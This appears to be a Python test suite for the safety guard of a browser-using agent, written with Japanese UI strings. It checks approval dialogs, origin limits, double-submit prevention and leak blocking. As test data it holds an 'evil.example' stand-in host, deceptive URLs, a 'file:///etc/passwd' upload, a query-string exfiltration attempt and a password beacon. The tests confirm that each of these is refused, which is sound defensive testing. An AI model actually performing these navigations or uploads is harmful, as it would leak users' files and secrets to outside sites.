"""One action under the guard, with its dialogs and its place."""

import asyncio
from functools import partial
from itertools import count
from urllib.parse import quote

import pytest

from studio.domain.actions.action import Action, Click, Fill, Navigate, Upload
from studio.domain.actions.outcome import OutcomeStatus
from studio.domain.errors import HandedOver
from studio.domain.events.events import ApprovalRequested, Event, RequestStopped
from studio.domain.page.observation import Observation
from studio.domain.page.target import Target
from studio.domain.runs.checklist import Item
from studio.engine.agent.acting import Acting
from studio.engine.agent.agent_state import AgentState
from studio.engine.agent.looking import Looking
from studio.engine.ports import RequestKind
from tests.engine.guard.wire import make_sending_shop
from tests.factories import CART, INTO_CART, SHOP, make_checklist, make_context, node, text
from tests.fakes import FakeBrowser, Journal, ScriptedModel

EVIL = "http://evil.example/"

MINUTES = "/書類/議事録.txt"


class Hand:
    """Acting on a shop whose start page is open."""

    def __init__(self, *, is_attended: bool = True, approves_all: bool = False) -> None:
        self.browser = make_sending_shop()
        self.browser.add(EVIL, node("button", "続ける"))
        self.context, self.journal = make_context(
            self.browser, is_attended=is_attended, approves_all=approves_all
        )
        self.checklist = make_checklist()
        agent_state = AgentState(self.context, ScriptedModel(), self.checklist)
        self.acting = Acting(self.context, agent_state, Looking(self.context))

    def says(self, instruction: str, *items: str) -> None:
        """Let the person's sentence be another one, and the plan hold these items."""
        listed = tuple(Item(text=text) for text in items) or self.checklist.items
        self.checklist = self.checklist.model_copy(
            update={"instruction": instruction, "items": listed}
        )
        agent_state = AgentState(self.context, ScriptedModel(), self.checklist)
        self.acting = Acting(self.context, agent_state, Looking(self.context))

    def target(self, page: Observation, name: str) -> Target:
        found = next(n for n in page.nodes if n.label == name)
        return Target(ref=found.ref, epoch=page.epoch, role=found.role, name=name)

    async def open(self, url: str = SHOP) -> Observation:
        await self.browser.start()
        self.acting.answer_dialogs()
        checklist = self.checklist.model_copy(update={"start_url": url})
        await self.acting.open_start_page(checklist)
        return await self.browser.observe()

    async def press(self, page: Observation, name: str):
        node = next(n for n in page.nodes if n.name == name)
        act = Click(target=Target(ref=node.ref, epoch=page.epoch, role=node.role, name=name))
        return await self.perform(act, page)

    async def perform(self, action: Action, page: Observation, foretold: str = ""):
        return await self.acting.perform(action, page, is_followed=False, foretold=foretold)

    def answers(self, *, is_yes: bool) -> None:
        loop = asyncio.get_running_loop()

        def reply(event: Event) -> None:
            if isinstance(event, ApprovalRequested):
                answer = partial(self.context.run_control.answer, event.request_id, is_yes=is_yes)
                loop.call_soon(answer)

        self.context.bus.subscribe(reply)


def asked(journal: Journal) -> list[str]:
    return [event.act for event in journal.of(ApprovalRequested)]


@pytest.mark.parametrize("is_yes", [True, False])
async def test_a_dialog_of_a_harmless_act_asks(is_yes: bool) -> None:
    hand = Hand()
    page = await hand.open()
    answers: list[bool] = []

    async def confirm(b: FakeBrowser) -> None:
        answers.append(await b.ask("検索しますか？"))
        b.show(node("heading", "終わり"))

    hand.browser.on("click", "検索", confirm)
    hand.answers(is_yes=is_yes)
    act = await hand.press(page, "検索")
    assert answers == [is_yes]
    assert act.outcome.is_ok is is_yes
    assert asked(hand.journal) == ["確認画面「検索しますか？」に OK と答えます。"]


@pytest.mark.parametrize("sends", [True, False])
async def test_only_a_page_that_sent_something_has_time_to_say_what_was_foretold(
    sends: bool,
) -> None:
    """Its server tells it a second later: the judge, and the flow, had nothing to see of it."""
    hand = Hand()
    hand.says("検索する")
    page = await hand.open()

    async def send(_browser: FakeBrowser) -> None:
        await hand.browser.send("/search", "POST")

    if sends:
        hand.browser.on("click", "検索", send)
    hand.answers(is_yes=True)
    node = next(n for n in page.nodes if n.name == "検索")
    press = Click(target=Target(ref=node.ref, epoch=page.epoch, role=node.role, name=node.name))
    await hand.perform(press, page, "3 件ありました")
    assert (("text_appeared", "3 件ありました") in hand.browser.expected) is sends


async def test_a_dialog_nobody_can_answer_ends_the_run_and_is_dismissed() -> None:
    hand = Hand(is_attended=False)
    page = await hand.open()
    answers: list[bool] = []

    async def confirm(b: FakeBrowser) -> None:
        answers.append(await b.ask("検索しますか？"))

    hand.browser.on("click", "検索", confirm)
    with pytest.raises(HandedOver):
        await hand.press(page, "検索")
    assert answers == [False]


async def test_yes_answers_dialogs_too() -> None:
    hand = Hand(is_attended=False, approves_all=True)
    page = await hand.open()

    async def confirm(b: FakeBrowser) -> None:
        assert await b.ask("検索しますか？")
        b.show(node("heading", "終わり"))

    hand.browser.on("click", "検索", confirm)
    assert (await hand.press(page, "検索")).outcome.is_ok


async def test_leaving_a_page_is_always_allowed() -> None:
    hand = Hand(is_attended=False)
    page = await hand.open()

    async def leave(b: FakeBrowser) -> None:
        assert await b.ask("", kind="beforeunload")
        b.go(CART)

    hand.browser.on("click", "検索", leave)
    assert (await hand.press(page, "検索")).outcome.is_ok


async def test_the_card_shows_what_the_page_holds() -> None:
    hand = Hand(approves_all=False)
    hand.browser.add(
        CART, node("textbox", "届け先", text="東京"), node("checkbox", "領収書", checked="true"),
        node("button", "注文を確定する"),
    )  # fmt: skip
    page = await hand.open(CART)
    hand.answers(is_yes=False)
    await hand.press(page, "注文を確定する")
    assert hand.journal.one(ApprovalRequested).details == (("届け先", "東京"), ("領収書", "オン"))


@pytest.mark.parametrize(
    "url",
    [EVIL, "http://shop.example.evil.example/", "https://shop.example:8443/", "http://127.0.0.1/"],
)
async def test_yes_never_covers_another_site(url: str) -> None:
    hand = Hand(is_attended=False, approves_all=True)
    page = await hand.open()
    with pytest.raises(HandedOver):
        await hand.perform(Navigate(url=url), page)
    assert [action for action in hand.browser.performed if action == Navigate(url=url)] == []


@pytest.mark.parametrize(
    "url",
    ["http://shop.example@evil.example/", "http://shop.example\\@evil.example/", "http://0x7f.1/",
     "file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "chrome://version"],
)  # fmt: skip
async def test_an_address_that_deceives_is_refused_without_a_question(url: str) -> None:
    hand = Hand(approves_all=True)
    page = await hand.open()
    act = await hand.perform(Navigate(url=url), page)
    assert act.outcome.status is OutcomeStatus.BLOCKED
    assert Navigate(url=url) not in hand.browser.performed
    assert asked(hand.journal) == []


async def test_an_approved_site_is_asked_about_once() -> None:
    hand = Hand()
    page = await hand.open()
    hand.answers(is_yes=True)
    after = (await hand.perform(Navigate(url=EVIL), page)).after
    await hand.press(after, "続ける")
    assert len(asked(hand.journal)) == 1


async def test_a_foreign_page_is_noticed_also_when_the_act_failed() -> None:
    hand = Hand(is_attended=False)
    page = await hand.open()
    hand.browser.add(EVIL, node("heading", "404"), http_status=404)
    hand.browser.on("click", "検索", lambda b: b.go(EVIL))
    with pytest.raises(HandedOver):
        await hand.press(page, "検索")


async def test_a_choose_knows_its_row() -> None:
    hand = Hand()
    page = await hand.open("http://shop.example/search")
    act = await hand.perform(INTO_CART, page)
    assert act.outcome.is_ok
    assert "Python 入門" in act.row_words
    assert act.shape == ("list:検索結果",)


async def test_a_ref_stays_good_while_role_and_name_stay() -> None:
    hand = Hand()
    page = await hand.open()
    button = next(n for n in page.nodes if n.name == "検索")
    newer = await hand.browser.observe()
    old = Click(target=Target(ref=button.ref, epoch=page.epoch, role="button", name="検索"))
    assert (await hand.perform(old, newer)).outcome.is_ok
    renamed = Click(target=Target(ref=button.ref, epoch=page.epoch, role="button", name="別"))
    assert (await hand.perform(renamed, await hand.browser.observe())).outcome.code == "STALE_REF"


async def test_a_submit_whose_result_is_unknown_is_not_repeated_under_yes() -> None:
    hand = Hand(is_attended=False, approves_all=True)
    hand.says("本を注文して")
    page = await hand.open(CART)
    sent: list[str] = []
    hand.browser.on("click", "注文を確定する", lambda b: sent.append(b.url))
    act = await hand.press(page, "注文を確定する")
    assert act.outcome.code == "NO_EFFECT"
    with pytest.raises(HandedOver):
        await hand.press(act.after, "注文を確定する")
    assert len(sent) == 1
    assert "二重" in hand.journal.of(ApprovalRequested)[-1].act


async def test_a_submit_the_page_refused_may_be_sent_again() -> None:
    hand = Hand(is_attended=False, approves_all=True)
    hand.says("本を注文して")
    page = await hand.open(CART)
    complain = node("alert", text="届け先を入力してください")
    hand.browser.on("click", "注文を確定する", lambda b: b.show(complain))
    act = await hand.press(page, "注文を確定する")
    assert act.outcome.code == "PAGE_COMPLAINS"
    await hand.press(act.after, "注文を確定する")
    assert asked(hand.journal) == []


async def test_an_act_whose_dialog_a_person_approved_cannot_be_undone() -> None:
    hand = Hand(is_attended=False, approves_all=True)
    page = await hand.open()

    async def confirm(b: FakeBrowser) -> None:
        assert await b.ask("すべて消しますか？")
        b.show(node("heading", "終わり"))

    hand.browser.on("click", "検索", confirm)
    assert (await hand.press(page, "検索")).needs_approval
    hand.browser.on("click", "検索", lambda b: b.show(node("heading", "また")))
    assert not (await hand.press(await hand.browser.observe(), "検索")).needs_approval


async def test_what_a_press_sends_is_held_and_marks_its_step() -> None:
    hand = Hand()
    hand.browser.add(SHOP, node("button", "保存"))
    page = await hand.open()
    hand.answers(is_yes=True)

    async def save(b: FakeBrowser) -> None:
        assert await hand.browser.send(SHOP + "save")
        b.show(node("status", "保存しました"))

    hand.browser.on("click", "保存", save)
    act = await hand.press(page, "保存")
    assert act.outcome.is_ok
    assert act.sends
    assert act.sending
    assert [shape.path for shape in act.sending.shapes] == ["/save"]
    assert [request.url for request in hand.browser.sent] == [SHOP + "save"]
    assert "「保存」をクリック" in asked(hand.journal)[0]


async def test_what_left_and_changed_nothing_to_be_seen_is_told_as_sent() -> None:
    """A file that its page sends for a form comes late: "no effect" would have it sent a second time."""
    hand = Hand()
    hand.browser.add(SHOP, node("button", "実行"))
    page = await hand.open()
    hand.answers(is_yes=True)

    async def run(_: FakeBrowser) -> None:
        assert await hand.browser.send(SHOP + "export", kind=RequestKind.NAVIGATION)

    hand.browser.on("click", "実行", run)
    act = await hand.press(page, "実行")
    assert (act.outcome.is_ok, act.outcome.code) == (True, "")
    assert "送られました" in act.outcome.message
    assert act.sends


async def test_nothing_a_press_sends_leaves_when_nobody_is_there() -> None:
    hand = Hand(is_attended=False)
    hand.browser.add(SHOP, node("button", "保存"))
    page = await hand.open()

    async def save(b: FakeBrowser) -> None:
        await hand.browser.send(SHOP + "save")
        b.show(node("status", "終わり"))

    hand.browser.on("click", "保存", save)
    with pytest.raises(HandedOver, match="保存"):
        await hand.press(page, "保存")
    assert hand.browser.sent == []


async def test_a_search_sends_without_a_question() -> None:
    hand = Hand(is_attended=False)
    page = await hand.open()

    async def search(b: FakeBrowser) -> None:
        assert await hand.browser.send(SHOP + "results")
        b.go(SHOP + "search")

    hand.browser.on("click", "検索", search)
    act = await hand.press(page, "検索")
    assert act.outcome.is_ok
    assert not act.needs_approval


async def test_the_start_page_may_not_lead_elsewhere_unasked() -> None:
    hand = Hand(is_attended=False)
    await hand.browser.start()
    hand.acting.answer_dialogs()
    assert not await hand.browser.send(EVIL, "GET", RequestKind.NAVIGATION)
    with pytest.raises(HandedOver, match="evil"):
        await hand.open()


async def test_sites_of_the_sentence_are_allowed_from_the_beginning() -> None:
    hand = Hand(is_attended=False)
    hand.says(f"{SHOP} の本を {EVIL} に書き写して")
    page = await hand.open()
    act = await hand.perform(Navigate(url=EVIL), page)
    assert act.outcome.is_ok
    assert hand.acting.origins == ("http://shop.example", "http://evil.example")


async def test_a_run_that_begins_at_the_open_page_may_be_there_and_nowhere_else() -> None:
    hand = Hand(is_attended=False)
    await hand.browser.start()
    hand.browser.go(SHOP)
    page = await hand.browser.observe()
    assert (await hand.press(page, "検索")).outcome.is_ok
    assert hand.acting.origins == ("http://shop.example",)


async def test_a_yes_is_void_when_the_page_changed_while_the_card_was_read() -> None:
    hand = Hand()
    amounts = iter(("100円", "9,999円", "9,999円", "9,999円"))
    page = await hand.open(CART)

    def change(b: FakeBrowser) -> None:
        b.add(CART, text(f"合計 {next(amounts)}"), node("button", "注文を確定する"))

    change(hand.browser)
    page = await hand.browser.observe()
    hand.browser.on_observe = change
    hand.answers(is_yes=True)
    await hand.press(page, "注文を確定する")
    cards = [event.details for event in hand.journal.of(ApprovalRequested)]
    assert cards == [(("合計", "100円"),), (("合計", "9,999円"),)]


async def test_a_page_that_never_stands_still_is_not_acted_on() -> None:
    hand = Hand()
    prices = count(100)

    def change(b: FakeBrowser) -> None:
        b.add(CART, text(f"合計 {next(prices)}円"), node("button", "注文を確定する"))

    change(hand.browser)
    hand.browser.on_observe = change
    page = await hand.open(CART)
    hand.answers(is_yes=True)
    act = await hand.press(page, "注文を確定する")
    assert act.outcome.code == "PAGE_CHANGED"
    assert all(isinstance(action, Navigate) for action in hand.browser.performed)


async def test_an_empty_required_field_is_told_before_anything_is_pressed() -> None:
    hand = Hand()
    form = node("form", "申請", node("textbox", "氏名 必須"), node("button", "申請する"))
    hand.browser.add(SHOP, form)
    page = await hand.open()
    act = await hand.press(page, "申請する")
    assert (act.outcome.status, act.outcome.code) == (OutcomeStatus.BLOCKED, "FORM_INCOMPLETE")
    assert "氏名" in act.outcome.message
    assert len(hand.browser.performed) == 1
    hand.answers(is_yes=True)
    hand.browser.on("click", "申請する", lambda b: b.show(node("heading", "受け付けました")))
    assert (await hand.press(await hand.browser.observe(), "申請する")).outcome.is_ok


async def test_a_form_of_which_a_field_took_nothing_is_not_sent_before_that_is_told() -> None:
    """No mark says that it must be filled in: the person's sentence does."""
    hand = Hand(approves_all=True)
    hand.says("部署に「経理部」を入れて申請する")
    hand.browser.add(
        SHOP, node("form", "申請", node("textbox", "部署"), node("button", "申請する"))
    )
    hand.browser.on("click", "申請する", lambda b: b.show(node("heading", "受け付けました")))
    hand.browser.refuse("fill", "部署", "TARGET_DISABLED")
    page = await hand.open()
    fill = Fill(target=hand.target(page, "部署"), value="経理部")
    filled = await hand.acting.perform(fill, page, is_followed=True)
    act = await hand.press(filled.after, "申請する")
    assert (act.outcome.code, "部署" in act.outcome.message) == ("FORM_INCOMPLETE", True)
    del hand.browser.refusals["fill", "部署"]
    page = await hand.browser.observe()
    fill = Fill(target=hand.target(page, "部署"), value="経理部")
    filled = await hand.acting.perform(fill, page, is_followed=True)
    assert (await hand.press(filled.after, "申請する")).outcome.is_ok


async def test_a_field_filled_in_the_same_decision_counts() -> None:
    hand = Hand(approves_all=True)
    hand.says("氏名に「花子」を入れて申請する")
    form = node("form", "申請", node("textbox", "氏名 必須"), node("button", "申請する"))
    hand.browser.add(SHOP, form)
    hand.browser.on("click", "申請する", lambda b: b.show(node("heading", "受け付けました")))
    page = await hand.open()
    filled = await hand.acting.perform(
        Fill(target=hand.target(page, "氏名 必須"), value="花子"), page, is_followed=True
    )
    assert (await hand.press(filled.after, "申請する")).outcome.is_ok


async def test_the_card_shows_what_was_just_filled() -> None:
    hand = Hand()
    hand.browser.add(CART, node("textbox", "届け先"), node("button", "注文を確定する"))
    page = await hand.open(CART)
    filled = await hand.acting.perform(
        Fill(target=hand.target(page, "届け先"), value="東京"), page, is_followed=True
    )
    hand.answers(is_yes=False)
    await hand.press(filled.after, "注文を確定する")
    assert hand.journal.one(ApprovalRequested).details == (("届け先", "東京"),)


SECRETIVE = "社外秘の売上は 1,234,567 円でした"


@pytest.mark.parametrize("is_yes", [True, False])
async def test_text_of_one_site_goes_to_another_only_with_a_yes(is_yes: bool) -> None:
    hand = Hand()
    hand.says(f"{SHOP} と {EVIL} を見て")
    hand.browser.add(SHOP, text(SECRETIVE))
    hand.browser.add(EVIL, node("textbox", "本文"))
    page = (await hand.perform(Navigate(url=EVIL), await hand.open())).after
    hand.answers(is_yes=is_yes)
    act = await hand.perform(Fill(target=hand.target(page, "本文"), value=SECRETIVE), page)
    assert act.outcome.is_ok is is_yes
    assert len(asked(hand.journal)) == 1
    assert "shop.example で読んだ内容を、evil.example へ送ります" in asked(hand.journal)[0]
    if is_yes:
        await hand.perform(Fill(target=hand.target(act.after, "本文"), value=SECRETIVE), act.after)
        assert len(asked(hand.journal)) == 1


async def test_an_address_may_not_carry_what_another_site_said() -> None:
    hand = Hand(is_attended=False, approves_all=True)
    hand.says(f"{SHOP} と {EVIL} を見て")
    hand.browser.add(SHOP, text(SECRETIVE))
    page = await hand.open()
    with pytest.raises(HandedOver, match="ほかのサイト"):
        await hand.perform(Navigate(url=f"{EVIL}?q={quote(SECRETIVE)}"), page)


async def test_an_address_that_deletes_is_asked_about_unless_the_person_wrote_it() -> None:
    url = SHOP + "items/3/delete"
    hand = Hand(is_attended=False)
    hand.browser.add(url, node("heading", "削除しました"))
    with pytest.raises(HandedOver):
        await hand.perform(Navigate(url=url), await hand.open())
    own = Hand(is_attended=False)
    own.browser.add(url, node("heading", "削除しました"))
    own.says(f"{url} を開いて")
    assert (await own.perform(Navigate(url=url), await own.open())).outcome.is_ok


@pytest.mark.parametrize("value", ["javascript:alert(1)", "x" * 2_001])
async def test_a_value_nobody_needs_is_not_typed(value: str) -> None:
    hand = Hand()
    page = await hand.open()
    act = await hand.perform(Fill(target=hand.target(page, "商品検索"), value=value), page)
    assert act.outcome.code == "PARAMETER_REFUSED"
    assert len(hand.browser.performed) == 1


async def test_a_file_nobody_named_is_not_given_away() -> None:
    hand = Hand()
    hand.browser.add(SHOP, node("button", "ファイルを選択"))
    page = await hand.open()
    upload = Upload(target=hand.target(page, "ファイルを選択"), paths=("/etc/passwd",))
    assert (await hand.perform(upload, page)).outcome.code == "FILE_NOT_GIVEN"
    assert len(hand.browser.performed) == 1


@pytest.mark.parametrize(
    ("is_attended", "instruction", "is_given"),
    [
        (True, "議事録を添付する", True),
        (False, "議事録を添付する", False),
        (False, f"{MINUTES} を添付する", True),
    ],
)
async def test_a_plan_that_nobody_saw_names_no_file(
    is_attended: bool, instruction: str, is_given: bool
) -> None:
    hand = Hand(is_attended=is_attended)
    hand.browser.add(SHOP, node("button", "ファイルを選択"))
    hand.says(instruction, f"{MINUTES} を添付する")
    page = await hand.open()
    upload = Upload(target=hand.target(page, "ファイルを選択"), paths=(MINUTES,))
    if is_given:
        with pytest.raises(ValueError, match="upload"):  # which the stage cannot do
            await hand.perform(upload, page)
    else:
        assert (await hand.perform(upload, page)).outcome.code == "FILE_NOT_GIVEN"


async def test_a_plan_that_nobody_saw_names_no_address_that_acts() -> None:
    url = f"{SHOP}entries/5/delete"
    hand = Hand(is_attended=False)
    hand.browser.add(url, node("heading", "削除しました"))
    hand.says("記録を見る", f"{url} を開く")
    page = await hand.open()
    with pytest.raises(HandedOver):
        await hand.perform(Navigate(url=url), page)


async def test_what_a_page_sends_abroad_while_it_gets_a_password_never_leaves() -> None:
    hand = Hand(approves_all=True)
    hand.browser.secrets = frozenset({"パスワード"})
    hand.browser.add(SHOP, node("textbox", "パスワード"), node("textbox", "備考"))
    page = await hand.open()
    steal = partial(hand.browser.send, "https://www.google-analytics.com/g/collect")
    left: list[bool | None] = []

    async def tell(_: FakeBrowser) -> None:
        left.append(await steal())

    hand.browser.on("fill", "パスワード", tell)
    hand.browser.on("fill", "備考", tell)
    page = (await hand.perform(Fill(target=hand.target(page, "備考"), value="a"), page)).after
    await hand.perform(Fill(target=hand.target(page, "パスワード"), value="Sakura-7"), page)
    assert left == [None, False]  # measuring is dropped without a word, a password is stopped
    assert [event.method for event in hand.journal.of(RequestStopped)] == ["POST", "POST"]


async def test_a_start_page_that_a_model_made_up_is_asked_about_before_it_is_opened() -> None:
    hand = Hand(is_attended=False, approves_all=True)
    hand.checklist = hand.checklist.model_copy(update={"is_start_url_proposed": True})
    with pytest.raises(HandedOver):
        await hand.open()
    assert hand.browser.performed == []
